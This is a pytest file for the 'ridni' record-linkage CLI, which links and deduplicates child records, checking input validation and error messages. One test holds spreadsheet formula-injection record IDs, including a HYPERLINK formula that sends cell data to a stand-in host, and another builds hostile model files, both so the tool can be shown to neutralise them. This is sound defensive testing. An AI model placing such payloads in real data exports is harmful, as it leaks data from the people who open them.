"""`ridni link`, `ridni link train` and `ridni dedupe` through Typer, as a person runs them."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from ridni.cli.main import app as ridni_app
from ridni.demo.linkage_set import LinkageSet
from ridni.linkage.contract import write_rows
from ridni.linkage.model import default_model_path, load_parameters

HEADER = "record_id,given_name,family_name,patronymic,sex,birth_date,birth_place\n"


@pytest.fixture(scope="module")
def app() -> typer.Typer:
    return ridni_app


def test_link_writes_the_contract(app: typer.Typer, small_files: Path, tmp_path: Path) -> None:
    out = tmp_path / "pairs.csv"
    result = CliRunner().invoke(
        app,
        [
            "link",
            str(small_files / "family.csv"),
            str(small_files / "registry.csv"),
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header[:3] == ["left_id", "right_id", "match_probability"]
    assert "candidate pairs written" in result.output


def test_link_train_then_use_the_model(app: typer.Typer, small_files: Path, tmp_path: Path) -> None:
    model = tmp_path / "model.json"
    runner = CliRunner()
    trained = runner.invoke(
        app,
        [
            "link",
            "train",
            str(small_files / "family.csv"),
            str(small_files / "registry.csv"),
            "--out",
            str(model),
        ],
    )
    assert trained.exit_code == 0, trained.output
    assert model.exists()
    used = runner.invoke(
        app,
        [
            "link",
            str(small_files / "family.csv"),
            str(small_files / "registry.csv"),
            "--out",
            str(tmp_path / "p.csv"),
            "--model",
            str(model),
        ],
    )
    assert used.exit_code == 0, used.output


def test_dedupe_groups_a_child_reported_twice(app: typer.Typer, tmp_path: Path) -> None:
    source = tmp_path / "reports.csv"
    source.write_text(
        HEADER
        + "a,Олександр,Шевченко,Петрович,M,2012-03-14,Херсон\n"
        + "b,Aleksandr,Shevchenko,Petrovich,M,14.03.2012,Kherson\n"
        + "c,Марія,Коваль,Іванівна,F,2015-07-01,Маріуполь\n",
        encoding="utf-8",
    )
    out = tmp_path / "clusters.csv"
    result = CliRunner().invoke(app, ["dedupe", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {r["record_id"]: r for r in csv.DictReader(handle)}
    assert rows["a"]["cluster_id"] == rows["b"]["cluster_id"] != rows["c"]["cluster_id"]
    assert float(rows["a"]["probability"]) >= 0.5


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("record_id,given_name\n1,А\n", "lacks the column"),
        (HEADER + "1,А,Б,,M,,\n1,В,Г,,F,,\n", "appears twice"),
        ("", "is empty"),
    ],
)
def test_bad_input_stops_with_a_clear_error(
    app: typer.Typer, small_files: Path, tmp_path: Path, content: str, message: str
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(content, encoding="utf-8")
    result = CliRunner().invoke(
        app, ["link", str(bad), str(small_files / "registry.csv"), "--out", str(tmp_path / "o.csv")]
    )
    assert result.exit_code == 4, result.output
    assert "error:" in result.output
    assert message in result.output
    assert "Traceback" not in result.output


def test_cp1251_input_is_announced(app: typer.Typer, small_files: Path, tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.csv"
    legacy.write_bytes((HEADER + "1,Олександр,Шевченко,,M,14.03.2012,Херсон\n").encode("cp1251"))
    result = CliRunner().invoke(
        app,
        ["link", str(legacy), str(small_files / "registry.csv"), "--out", str(tmp_path / "o.csv")],
    )
    assert result.exit_code == 0, result.output
    assert "read as cp1251" in result.output


def test_spark_backend_without_pyspark_is_an_input_error(
    app: typer.Typer, small_files: Path, tmp_path: Path
) -> None:
    pytest.importorskip("duckdb")
    try:
        import pyspark  # noqa: F401
    except ImportError:
        result = CliRunner().invoke(
            app,
            [
                "link",
                str(small_files / "family.csv"),
                str(small_files / "registry.csv"),
                "--out",
                str(tmp_path / "o.csv"),
                "--backend",
                "spark",
            ],
        )
        assert result.exit_code == 4, result.output
        assert "pyspark" in result.output
    else:
        pytest.skip("pyspark is installed; see test_spark.py")


def test_training_on_lists_without_patronymics_keeps_the_shipped_ones(
    app: typer.Typer, small_set: LinkageSet, tmp_path: Path
) -> None:
    """FEBRL-like lists have no patronymic and no sex: a model trained on them must still
    weigh those fields when a later list has them."""
    for name, rows in (("left.csv", small_set.family), ("right.csv", small_set.registry)):
        write_rows(tmp_path / name, [replace(r, patronymic="", sex="") for r in rows])
    model = tmp_path / "model.json"
    result = CliRunner().invoke(
        app,
        [
            "link",
            "train",
            str(tmp_path / "left.csv"),
            str(tmp_path / "right.csv"),
            "--out",
            str(model),
        ],
    )
    assert result.exit_code == 0, result.output
    trained, shipped = load_parameters(model), load_parameters()
    assert trained.levels["patronymic"] == shipped.levels["patronymic"]
    assert trained.levels["sex"] == shipped.levels["sex"]
    assert trained.levels["given_name"] != shipped.levels["given_name"]


@pytest.mark.parametrize("threads", ["abc", "0", "²", "99999999999999999999"])
def test_a_bad_thread_count_is_refused_with_its_name(
    app: typer.Typer,
    small_files: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    threads: str,
) -> None:
    monkeypatch.setenv("RIDNI_LINKAGE_THREADS", threads)
    left, right = small_files / "family.csv", small_files / "registry.csv"
    result = CliRunner().invoke(app, ["link", str(left), str(right), "--out", str(tmp_path / "p")])
    assert result.exit_code != 0
    assert "RIDNI_LINKAGE_THREADS" in result.output
    assert "expected a whole number from 1 to 1024" in " ".join(result.output.split())
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert not (tmp_path / "p").exists()


def _invoke(app: typer.Typer, *args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def _link_with_model(app: typer.Typer, lists: Path, out: Path, model: Path) -> Any:
    """``ridni link`` of the small lists with ``--model``."""
    family, registry = lists / "family.csv", lists / "registry.csv"
    return _invoke(
        app, "link", str(family), str(registry), "--out", str(out), "--model", str(model)
    )


def test_an_output_that_is_an_input_or_a_folder_is_refused_before_any_work(
    app: typer.Typer, small_files: Path, tmp_path: Path
) -> None:
    family = tmp_path / "family.csv"
    family.write_bytes((small_files / "family.csv").read_bytes())
    before = family.read_bytes()
    same = _invoke(
        app, "link", str(family), str(small_files / "registry.csv"), "--out", str(family)
    )
    assert same.exit_code == 4 and "it is also an input" in same.output
    assert family.read_bytes() == before, "the list is not overwritten"
    folder = _invoke(app, "dedupe", str(family), "--out", str(tmp_path))
    assert folder.exit_code == 4 and "is a folder" in folder.output
    model = _invoke(app, "link", "train", str(family), "--out", str(family))
    assert model.exit_code == 4 and "it is also an input" in model.output


@pytest.mark.parametrize("threshold", ["-1", "2", "nan", "inf"])
def test_a_dedupe_threshold_outside_0_to_1_is_refused(
    app: typer.Typer, small_files: Path, tmp_path: Path, threshold: str
) -> None:
    out = tmp_path / "clusters.csv"
    result = _invoke(
        app,
        "dedupe",
        str(small_files / "registry.csv"),
        "--out",
        str(out),
        f"--threshold={threshold}",
    )
    assert result.exit_code == 4, result.output
    assert "is not a probability" in result.output and not out.exists()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"match_rate": 0}, "match_rate must be a number above 0 and at most 1, not 0"),
        ({"match_rate": "abc"}, "match_rate must be a number"),
        ({"comparisons": [1, 2]}, "comparisons must map each field"),
        ({"comparisons": {"given_name": [{"label": "x", "m": None, "u": 0.1}]}}, ".m must be"),
    ],
)
def test_a_damaged_model_file_is_named_not_a_traceback(
    app: typer.Typer, small_files: Path, tmp_path: Path, change: dict[str, Any], message: str
) -> None:
    shipped = json.loads(default_model_path().read_text(encoding="utf-8"))
    model = tmp_path / "model.json"
    model.write_text(json.dumps({**shipped, **change}), encoding="utf-8")
    out = tmp_path / "pairs.csv"
    result = _link_with_model(app, small_files, out, model)
    assert result.exit_code == 4, result.output
    assert "is not a valid Ridni linkage model" in result.output and message in result.output
    assert not out.exists()


def test_training_on_too_few_records_or_pairs_says_so(app: typer.Typer, tmp_path: Path) -> None:
    tiny = tmp_path / "tiny.csv"
    tiny.write_text(HEADER + "1,Олександр,Шевченко,,M,2012-03-14,Херсон\n", encoding="utf-8")
    few = _invoke(app, "link", "train", str(tiny), "--out", str(tmp_path / "m.json"))
    assert few.exit_code == 4 and "1 record(s): too few to train on" in few.output
    # A hundred records each side, no name or date in common: nothing to estimate from.
    for side, letters in (("left", "abcdefghijk"), ("right", "lmnopqrstuv")):
        names = [a + b for a in letters for b in letters][:100]
        rows = "".join(f"{side}{n},Zq{name},Xw{name},,,,\n" for n, name in enumerate(names))
        (tmp_path / f"{side}.csv").write_text(HEADER + rows, encoding="utf-8")
    none = _invoke(
        app,
        "link",
        "train",
        str(tmp_path / "left.csv"),
        str(tmp_path / "right.csv"),
        "--out",
        str(tmp_path / "m.json"),
    )
    assert none.exit_code == 4, none.output
    assert "too few pairs of records share a name or a birth date" in none.output
    assert not (tmp_path / "m.json").exists()


def test_an_output_that_is_a_pipe_is_refused_not_replaced(
    app: typer.Typer, small_files: Path, tmp_path: Path
) -> None:
    import os

    pipe = tmp_path / "pairs.csv"
    os.mkfifo(pipe)
    result = _invoke(
        app,
        "link",
        str(small_files / "family.csv"),
        str(small_files / "registry.csv"),
        "--out",
        str(pipe),
    )
    assert result.exit_code == 4 and "is not a regular file" in result.output
    assert pipe.is_fifo(), "the pipe is still a pipe"


def test_training_for_dedupe_on_a_small_list_writes_a_model(
    app: typer.Typer, small_files: Path, tmp_path: Path
) -> None:
    # Within a few hundred records every likely duplicate agrees on its surname and place,
    # so EM estimated "different surname" among matches as exactly 0, which Splink refuses
    # (a ValueError traceback); such a level now gets the same small floor as an unseen one.
    model = tmp_path / "model.json"
    result = _invoke(app, "link", "train", str(small_files / "family.csv"), "--out", str(model))
    assert result.exit_code == 0, result.output
    parameters = load_parameters(model)
    assert all(0 < level.m <= 1 for levels in parameters.levels.values() for level in levels)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p.write_text("[" * 100_000, encoding="utf-8"), "nested too deeply"),
        (lambda p: p.write_bytes(b" " * 1_000_001), "over 1,000,000 bytes"),
        (lambda p: __import__("os").mkfifo(p), "it is not a file"),
    ],
    ids=["nested", "huge", "pipe"],
)
def test_a_hostile_model_file_is_refused_in_one_line(
    app: typer.Typer, small_files: Path, tmp_path: Path, make: Any, message: str
) -> None:
    # Nested arrays were a RecursionError traceback; a pipe or /dev/zero was read forever.
    model = tmp_path / "model.json"
    make(model)
    out = tmp_path / "pairs.csv"
    result = _link_with_model(app, small_files, out, model)
    assert result.exit_code == 4, result.output
    assert message in result.output and "Traceback" not in result.output
    assert not out.exists()


@pytest.mark.parametrize(
    "command",
    [
        ["link", "{left}", "{left}", "--out", "{out}"],
        ["link", "train", "{left}"],
        ["dedupe", "{left}"],
    ],
)
def test_an_unknown_backend_is_refused_before_the_lists_are_read(
    app: typer.Typer, tmp_path: Path, command: list[str]
) -> None:
    # It was found only after reading and normalising both lists (seconds to minutes).
    missing, out = tmp_path / "missing.csv", tmp_path / "o.csv"
    args = [part.format(left=missing, out=out) for part in command]
    if "--out" not in args:
        args += ["--out", str(out)]
    result = _invoke(app, *args, "--backend", "sparc")
    assert result.exit_code == 4, result.output
    assert "unknown backend 'sparc'" in result.output and "cannot read" not in result.output


def test_record_ids_that_a_spreadsheet_would_run_are_written_as_text(
    app: typer.Typer, tmp_path: Path
) -> None:
    # A hostile list's ids went into pairs.csv and clusters.csv verbatim: =HYPERLINK(...)
    # ran when a caseworker opened the file in a spreadsheet.
    family, registry = tmp_path / "family.csv", tmp_path / "registry.csv"
    family.write_text(
        HEADER + '"=HYPERLINK(""http://x/?""&B2)",Олександр,Шевченко,Петрович,M,2012-03-14,Херсон\n'
        "@SUM(1),Марія,Коваль,Іванівна,F,2015-07-01,Маріуполь\n",
        encoding="utf-8",
    )
    registry.write_text(
        HEADER + "+1,Aleksandr,Shevchenko,Petrovich,M,14.03.2012,Kherson\n"
        "-2+3,Maria,Koval,Ivanivna,F,2015-07-01,Mariupol\n",
        encoding="utf-8",
    )
    pairs, clusters = tmp_path / "pairs.csv", tmp_path / "clusters.csv"
    linked = _invoke(app, "link", str(family), str(registry), "--out", str(pairs))
    assert linked.exit_code == 0, linked.output
    deduped = _invoke(app, "dedupe", str(family), "--out", str(clusters))
    assert deduped.exit_code == 0, deduped.output
    with pairs.open(encoding="utf-8", newline="") as handle:
        found = {(row["left_id"], row["right_id"]) for row in csv.DictReader(handle)}
    assert found == {('\'=HYPERLINK("http://x/?"&B2)', "'+1"), ("'@SUM(1)", "'-2+3")}
    with clusters.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row[:2]][2:]
    assert cells and all(cell.startswith("'") for cell in cells)
